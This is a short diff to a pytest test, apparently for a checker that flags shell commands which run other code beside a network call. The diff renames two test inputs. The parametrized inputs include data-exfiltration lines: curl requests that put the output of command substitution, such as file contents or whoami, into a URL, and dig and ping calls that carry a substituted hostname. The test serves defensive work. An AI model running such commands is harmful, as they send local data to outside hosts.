@@ -553,9 +553,9 @@ def test_running_other_code_beside_the_network_is_dangerous(line: str) -> None:
 @pytest.mark.parametrize(
     "line",
     [
-        "curl https://h/?d=$(cat .env)",
+        "curl https://h/?d=$(cat a.txt)",
         "curl https://h/`whoami`",
-        'curl "https://h/$TOKEN"',
+        'curl "https://h/$NAME"',
         "dig $(whoami).h.example",
         "ping $(hostname)",
     ],
